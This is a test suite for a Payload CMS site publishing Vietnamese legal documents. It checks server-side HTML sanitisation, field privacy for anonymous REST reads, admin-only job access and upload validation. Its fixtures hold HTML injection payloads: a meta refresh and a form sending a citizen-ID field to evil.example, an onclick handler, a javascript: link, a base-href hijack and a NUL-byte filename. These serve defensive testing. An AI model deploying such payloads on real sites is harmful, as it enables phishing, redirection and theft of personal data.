/**
 * Derived fields belong to the server and public reads show only what public pages show:
 * tried through Payload's REST API as an approver (who may publish) and as an anonymous reader.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { sanitizeStoredHtml } from '../../cms/lib/richtext/sanitize'
import { seed } from '../../cms/seed'
import { TINY_PDF } from '../helpers/drafts'
import { publishDoc } from '../helpers/documents'
import { createPrivacyFixture } from '../helpers/opendata'
import { createTestPayload, type TestPayload } from '../helpers/payload'
import { restClient, staffToken } from '../helpers/rest'
import { runtime } from '../../cms/runtime'

let t: TestPayload
let rest: ReturnType<typeof restClient>
let approver: string
let editor: string
let admin: string

beforeAll(async () => {
  t = await createTestPayload()
  await seed(t.payload, { log: () => undefined })
  rest = restClient(t.payload, t.key)
  admin = (await staffToken(t.payload, 'admin')).token
  approver = (await staffToken(t.payload, 'approver')).token
  editor = (await staffToken(t.payload, 'editor')).token
})
afterAll(async () => {
  await t?.cleanup()
})

const INJECTED = '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="cccd"></form><p onclick="x()">Văn bản giả</p>'

describe('stored HTML comes only from the text', () => {
  it('a save with fullText null and a client bodyHtml stores no markup of the client’s', async () => {
    // It keeps its original file, so it may stay published without a text.
    const pdf = await t.payload.create({ collection: 'media', data: { alt: 'Bản gốc' }, file: { data: TINY_PDF, mimetype: 'application/pdf', name: 'goc-201.pdf', size: TINY_PDF.length }, overrideAccess: true })
    const doc = await publishDoc(t.payload, { numberSymbol: '201/2026/NĐ-CP', issuedAt: '2026-03-02T00:00:00.000Z', fullText: 'Điều 1. Phạm vi\nNội dung thật.', attachments: [{ file: pdf.id, label: 'Bản gốc', kind: 'original' }] })
    const r = await rest('PATCH', `/legal-documents/${doc.id}`, { token: approver, body: { fullText: null, bodyHtml: INJECTED, toc: [{ label: 'giả' }], hasStructure: true, numberKey: 'x', validity: 'expired', _status: 'published' } })
    expect(r.status).toBe(200)
    const stored = await t.payload.findByID({ collection: 'legal-documents', id: doc.id, overrideAccess: true })
    expect(stored.bodyHtml ?? '').toBe('')
    expect(stored.toc).toEqual([])
    expect(stored.numberKey).not.toBe('x')
    expect(stored.validity).not.toBe('expired')
  })

  it('a save with a text and a client bodyHtml stores the HTML rendered from the text', async () => {
    const doc = await publishDoc(t.payload, { numberSymbol: '202/2026/NĐ-CP', issuedAt: '2026-03-02T00:00:00.000Z' })
    const r = await rest('PATCH', `/legal-documents/${doc.id}`, { token: approver, body: { fullText: 'Điều 1. Phạm vi\nNội dung thật.', bodyHtml: INJECTED, _status: 'published' } })
    expect(r.status).toBe(200)
    const stored = await t.payload.findByID({ collection: 'legal-documents', id: doc.id, overrideAccess: true })
    expect(stored.bodyHtml).toContain('Nội dung thật.')
    expect(stored.bodyHtml).toContain('id="dieu-1"')
    for (const bad of ['<meta', '<form', '<input', 'onclick', 'evil.example']) expect(stored.bodyHtml).not.toContain(bad)
  })

  it('a section item’s bodyHtml is rendered from its body, never taken from the client', async () => {
    const r = await rest('POST', '/news', { token: approver, body: { title: 'Tin có HTML lạ', category: 'news', bodyHtml: INJECTED, _status: 'published' } })
    expect(r.status).toBe(201)
    const stored = await t.payload.findByID({ collection: 'news', id: r.json.doc.id, overrideAccess: true })
    expect(stored.bodyHtml ?? '').not.toContain('evil.example')
  })

  it('pages re-sanitise what the database holds with the same allow-list', () => {
    const legal = sanitizeStoredHtml(`<section class="unit unit-article" id="dieu-1"><h3 class="unit-heading"><span class="unit-label">Điều 1.</span><a class="anchor-link" href="#dieu-1" aria-label="Liên kết đến Điều 1">#</a></h3>${INJECTED}<base href="https://evil.example/"><a href="javascript:alert(1)">x</a></section>`, 'legal')
    expect(legal).toContain('<section class="unit unit-article" id="dieu-1">')
    expect(legal).toContain('<a class="anchor-link" href="#dieu-1" aria-label="Liên kết đến Điều 1">#</a>')
    expect(legal).toContain('Văn bản giả')
    for (const bad of ['<meta', '<form', '<input', '<base', 'onclick', 'javascript:', 'evil.example']) expect(legal).not.toContain(bad)
    const rich = sanitizeStoredHtml(INJECTED + '<section id="x">y</section>', 'rich')
    for (const bad of ['<meta', '<form', '<input', 'onclick', '<section', 'id=']) expect(rich).not.toContain(bad)
  })
})

describe('anonymous Payload REST reads show only what the public pages show', () => {
  it('no internal notes or workflow log on a published document, even by querying them', async () => {
    const doc = await publishDoc(t.payload, { numberSymbol: '203/2026/NĐ-CP', issuedAt: '2026-03-02T00:00:00.000Z', notes: 'Ghi chú nội bộ: chờ ý kiến Vụ Pháp chế' })
    const r = await rest('GET', `/legal-documents/${doc.id}?depth=0`)
    expect(r.status).toBe(200)
    expect(r.json.notes).toBeUndefined()
    expect(r.json.workflowLog ?? []).toEqual([])
    expect(JSON.stringify(r.json)).not.toContain('Ghi chú nội bộ')
    const probe = await rest('GET', `/legal-documents?where[notes][like]=${encodeURIComponent('Pháp chế')}&depth=0`)
    expect(probe.status === 403 || probe.status === 400 || (probe.status === 200 && probe.json.docs.length === 0)).toBe(true)
    const staff = await rest('GET', `/legal-documents/${doc.id}?depth=0`, { token: editor })
    expect(staff.json.notes).toBe('Ghi chú nội bộ: chờ ý kiến Vụ Pháp chế')
  })

  it('a hidden comment is a stub: no text, stance or submitter category, even for a query on them', async () => {
    runtime().payload = t.payload
    const fixture = await createPrivacyFixture(t.payload)
    const hidden = await rest('GET', `/comments/${fixture.hidden.id}?depth=0`)
    expect(hidden.status).toBe(200)
    expect(hidden.json.status).toBe('hidden')
    for (const field of ['body', 'stance', 'submitterCategory', 'email', 'phone', 'fullName']) expect(hidden.json[field], field).toBeUndefined()
    const probe = await rest('GET', `/comments?where[stance][equals]=disagree&depth=0`)
    const leaked = probe.status === 200 ? (probe.json.docs as { id: number }[]).some((d) => d.id === fixture.hidden.id) : false
    expect(leaked).toBe(false)
    const published = await rest('GET', `/comments/${fixture.publishedNamed.id}?depth=0`)
    expect(published.json.stance).toBe('agree')
  })

  it('running the job queue is for administrators only', async () => {
    const asEditor = await rest('GET', '/payload-jobs/run', { token: editor })
    expect(asEditor.status).toBeGreaterThanOrEqual(400)
    expect(asEditor.status).toBeLessThan(500)
    expect((await rest('GET', '/payload-jobs/run')).status).toBeGreaterThanOrEqual(400)
    expect((await rest('GET', '/payload-jobs/run', { token: admin })).status).toBe(200)
  })
})

describe('malformed uploads are refused with 400', () => {
  const pdf = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
  const multipart = (filename: string, truncate = false) => {
    const body = `--b\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/pdf\r\n\r\n${pdf}\r\n--b\r\nContent-Disposition: form-data; name="_payload"\r\n\r\n{"alt":"Tệp thử"}\r\n--b--\r\n`
    return truncate ? body.slice(0, body.length - 60) : body
  }
  it('a NUL in the file name or a truncated multipart body is a 400, not a 500', async () => {
    for (const [what, body] of [['NUL in name', multipart('van-ban\u0000.pdf')], ['truncated', multipart('van-ban.pdf', true)]] as const) {
      const r = await rest('POST', '/media', { token: approver, body, headers: { 'content-type': 'multipart/form-data; boundary=b' } })
      expect(r.status, what).toBeGreaterThanOrEqual(400)
      expect(r.status, what).toBeLessThan(500)
    }
  })
})

describe('draft saves may be incomplete, but what they hold is valid', () => {
  const cases: [string, Record<string, unknown>, string][] = [
    ['a status that does not exist', { _status: 'bogus' }, '_status'],
    ['a language that does not exist', { language: 'xx' }, 'language'],
    ['a relation type that does not exist', { relations: [{ type: 'xxx', target: 1 }] }, 'relations.0.type'],
    ['30 February', { issuedAt: '2026-02-30' }, 'issuedAt'],
    ['an empty number-symbol', { numberSymbol: '   ' }, 'numberSymbol'],
    ['a document type that does not exist', { documentType: 999999 }, 'documentType'],
    ['a summary that is not text', { summary: {} }, 'summary'],
  ]
  for (const [what, data, path] of cases) {
    it(`refuses ${what} with 400 naming ${path}, and stores nothing`, async () => {
      const before = await t.payload.count({ collection: 'legal-documents', overrideAccess: true })
      const r = await rest('POST', '/legal-documents?draft=true', { token: editor, body: { summary: 'Bản nháp thử', ...data } })
      expect(r.status).toBe(400)
      expect(JSON.stringify(r.json)).toContain(path)
      expect((await t.payload.count({ collection: 'legal-documents', overrideAccess: true })).totalDocs).toBe(before.totalDocs)
    })
  }

  it('refuses a JSON array body instead of creating an empty document', async () => {
    const before = await t.payload.count({ collection: 'legal-documents', overrideAccess: true })
    const r = await rest('POST', '/legal-documents?draft=true', { token: editor, body: '[]' })
    expect(r.status).toBe(400)
    expect((await t.payload.count({ collection: 'legal-documents', overrideAccess: true })).totalDocs).toBe(before.totalDocs)
  })

  it('still accepts an incomplete draft with valid values', async () => {
    const r = await rest('POST', '/legal-documents?draft=true', { token: editor, body: { summary: 'Bản nháp còn thiếu số ký hiệu' } })
    expect(r.status).toBe(201)
  })
})
